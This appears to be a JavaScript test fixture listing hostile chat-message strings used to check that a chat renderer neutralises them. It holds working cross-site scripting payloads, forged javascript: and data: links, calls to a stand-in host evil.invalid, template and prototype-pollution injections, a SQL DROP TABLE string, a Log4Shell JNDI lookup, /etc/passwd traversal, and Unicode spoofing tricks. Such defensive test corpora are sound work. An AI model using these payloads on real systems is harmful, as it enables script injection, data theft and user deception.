/**
 * Texts that people write to break a chat: to run a script, to forge a link, to break out of the markup, to spoil the layout, to mislead the eye.
 *
 * `HOSTILE` holds `{name, text, shown?}`. What is shown of a text is all of its letters and digits in their order, unless `shown` says otherwise:
 * where the markup is understood, its signs and the addresses of links are no longer part of the text.
 */

/** Marks that a script has run: whatever `RUN` is evaluated in. */
export const CANARY = "hostileTextRan";
const RUN = `window.${CANARY}=1`;

const many = (count, text) => text.repeat(count);

/** Scripts and handlers, as HTML has them. */
const HTML = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>`,
  `"><script>${RUN}</script>`,
  `'"><img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="http://evil.invalid/pixel.png">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>press</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">press</math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<marquee onstart=${RUN}>`,
  `<a href="javascript:${RUN}">press</a>`,
  `<form action="javascript:${RUN}"><button>press</button></form>`,
  `<base href="http://evil.invalid/">`,
  `<meta http-equiv="refresh" content="0;url=http://evil.invalid/">`,
  `<link rel=stylesheet href="http://evil.invalid/x.css">`,
  `<style>*{display:none}</style>`,
  `<style>@import "http://evil.invalid/x.css";</style>`,
  `<p style="position:fixed;inset:0;background:red">all yours`,
  `<div style="background:url(http://evil.invalid/x)">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea></textarea><script>${RUN}</script>`,
  `</div></div></main><h1>broken out</h1>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<dialog open>a dialog</dialog>`,
  `<plaintext>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62; &amp;amp; &nbsp; &#x3c;b&#x3e;`,
];

/** What forges an address. None of them may become a link. */
const ADDRESSES = [
  `[press](javascript:${RUN})`,
  `[press](JaVaScRiPt:${RUN})`,
  `[press](java\tscript:${RUN})`,
  `[press](java\nscript:${RUN})`,
  `[press](\u0001javascript:${RUN})`,
  `[press](&#106;avascript:${RUN})`,
  `[press](javascript&colon;${RUN})`,
  `[press](javascript%3A${RUN})`,
  `[press](//evil.invalid/x)`,
  `[press](\\\\evil.invalid\\x)`,
  `[press](data:text/html,<script>${RUN}</script>)`,
  `[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZVRleHRSYW49MTwvc2NyaXB0Pg==)`,
  `[press](vbscript:msgbox(1))`,
  `[press](file:///etc/passwd)`,
  `[press](blob:http://evil.invalid/1)`,
  `[press](view-source:http://evil.invalid/)`,
  `[press](intent://evil.invalid/#Intent;scheme=http;end)`,
  `[press](ws://evil.invalid/)`,
  `[press](about:blank)`,
  `[press](/api/logout)`,
  `[press](#messages)`,
  `[press](?x=1)`,
  `javascript:${RUN}`,
  `javascript://evil.invalid/%0a${RUN}`,
  `<javascript:${RUN}>`,
  `[press][1]\n\n[1]: javascript:${RUN}`,
  `![press](javascript:${RUN})`,
];

/** Real links, whose address tries to be more than one. */
const LINKS = [
  { text: "![press](http://evil.invalid/pixel.png)", shown: "press" },
  { text: `[press](https://evil.invalid/" onmouseover="${RUN})` },
  { text: `https://evil.invalid/"onmouseover="${RUN}` },
  { text: `https://evil.invalid/'><script>${RUN}</script>` },
  { text: `https://evil.invalid/<svg/onload=${RUN}>` },
  { text: `[https://bank.example](https://evil.invalid/)`, shown: "https://bank.example" },
  { text: "[a](https://user:secret@evil.invalid/)", shown: "a" },
  { text: "https://xn--80ak6aa92e.com/ https://аррӏе.com/" },
  { text: "https://bank.example\u2024evil.invalid/ https://bank.example%2eevil.invalid/" },
  { text: "https://evil.invalid/\u202egpj.exe" },
  { text: `https://evil.invalid/${many(4000, "a")}` },
  { text: `https://evil.invalid/?${many(300, "%00&x=%0d%0a")}` },
  { text: "https://[::1]:99999/ https://0x7f.1/ http://256.256.256.256/" },
  { text: "[x](https://evil.invalid/)".repeat(200), shown: many(200, "x") },
  { text: "mailto:a@evil.invalid?subject=%0d%0aBcc:b@evil.invalid" },
];

/** What breaks out of the markup, or never ends within it. */
const MARKUP = [
  { text: `**<b onmouseover=${RUN}>bold</b>**` },
  { text: `\`<img src=x onerror=${RUN}>\`` },
  { text: `\`\`\`html\n<script>${RUN}</script>\n\`\`\``, shown: `<script>${RUN}</script>` },
  { text: `\`\`\`js"><img src=x onerror=${RUN}>\ncode\n\`\`\``, shown: "code" },
  { text: "```\nnever closed\n# not a heading" },
  { text: many(200, "`") + many(199, "`") + "tick" },
  { text: `${many(300, "*")}star${many(300, "*")}` },
  { text: `${many(500, "**_~~")}deep${many(500, "~~_**")}` },
  { text: `${many(2000, "*a ")}` },
  { text: `${many(1000, "> ")}a thousand quotes deep` },
  { text: Array.from({ length: 60 }, (_, depth) => `${many(depth, "  ")}- item`).join("\n") },
  { text: Array.from({ length: 1500 }, () => "- x").join("\n") },
  { text: "999999999999999999999999. far\n0. back", shown: "far back" },
  { text: many(3000, "[") },
  { text: many(2000, "[a](") },
  { text: `${many(1500, "![")}x` },
  { text: `${many(2000, "<a ")}x` },
  { text: "| a | b |\n|---|---|\n| <b>c | d |" },
  { text: "# heading\n## heading\n---\n***\n___", shown: "heading heading" },
  { text: "\\<script\\>\\*\\_\\`\\[\\]" },
  { text: "~~~\n~~~ ~~~\n``````\n````", shown: "" },
  { text: "[^1]: note\n\n[^1] <details><summary>x</summary></details>" },
];

/** What is evaluated by those who take a text for a template or a name for a property. */
const CODE = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %> #{${RUN}} {%${RUN}%} @(${RUN})`,
  `');${RUN};//`,
  `";${RUN};//`,
  `</script><script>${RUN}</script>`,
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  '{"__proto__":{"polluted":1}}',
  "__proto__.polluted=1",
  "undefined null NaN [object Object] true",
  "'; DROP TABLE accounts; --",
  "${jndi:ldap://evil.invalid/x}",
  "../../../../etc/passwd",
  "%00 %0a %0d %s %n %x %d",
  "=HYPERLINK(\"http://evil.invalid\")",
];

/** What misleads the eye or the ear. */
const INVISIBLE = [
  "\u202eright to left override\u202c and after",
  "\u202e\u202e\u202eoverride that never ends",
  "\u2066isolate\u2067isolate\u2068isolate, none ended",
  "\u202a\u202b\u202d embeddings \u202c",
  "invoice\u202egpj.exe",
  "a\u200bd\u200cm\u200di\u2060n\ufeff",
  "\u200b\u200b\u200bx",
  "\u00adsoft\u00adhyphens\u00ad",
  "\u2028line\u2029paragraph\u0085next",
  "\u0007bell\u0008back\u001b[31mred\u001b[0m",
  "tab\tvertical\u000bform\u000cfeed",
  "\u{e0001}\u{e0068}\u{e0069}tags",
  "\ufdfd \u{12031} \u2e3b \ua9c5",
  "\ufffe\uffff\u{10ffff}not characters",
  "a\u180e\u3164\uffa0b",
  "Ａｄｍｉｎ ᴀᴅᴍɪɴ 𝕬𝖉𝖒𝖎𝖓 аdmin",
];

/** What does not fit. */
const SHAPES = [
  `z${many(1000, "\u0335\u0488\u0309")}algo`,
  `combining${many(1000, "\u0301")}`,
  `o${many(500, "\u20dd")} ringed`,
  many(8000, "W"),
  many(8000, "i"),
  many(2000, "漢字"),
  many(1500, "ﷺ"),
  many(400, "👨‍👩‍👧‍👦"),
  many(300, "👩🏽‍❤️‍💋‍👨🏿"),
  many(500, "🇩🇪"),
  `👨${many(400, "\u200d👩")}`,
  `begin${many(700, "\n")}end`,
  many(700, "a\n"),
  many(4000, "\u00a0x"),
  `a${many(6000, " ")}b`,
  `wide\u3000${many(800, "\u3000")}gap`,
  many(2500, "-"),
  many(2500, "_"),
  many(800, "a/b\\"),
  many(1000, "#@!"),
];

/** Writing from right to left, alone and among the other. */
const DIRECTIONS = [
  "مرحبا بالعالم، هذه رسالة طويلة بعض الشيء لنرى كيف تنكسر السطور على هاتف صغير الحجم.",
  "שלום עולם (123) abc",
  "abc שלום (עולם) 456 def",
  "\u200fRLM at the beginning!",
  "العربية https://evil.invalid/مسار?س=1 بعدها",
  { text: "1. עברית\n2. عربي\n- > ציטוט", shown: "עברית عربي ציטוט" },
  `${many(3000, "ש")}`,
  "`קוד` **מודגש** العربية",
];

function corpus(kind, entries) {
  return entries.map((entry, at) => ({ name: `${kind} ${at + 1}`, ...(typeof entry === "string" ? { text: entry } : entry) }));
}

export const HOSTILE = [
  ...corpus("HTML", HTML),
  ...corpus("address", ADDRESSES),
  ...corpus("link", LINKS),
  ...corpus("markup", MARKUP),
  ...corpus("code", CODE),
  ...corpus("invisible", INVISIBLE),
  ...corpus("shape", SHAPES),
  ...corpus("direction", DIRECTIONS),
];
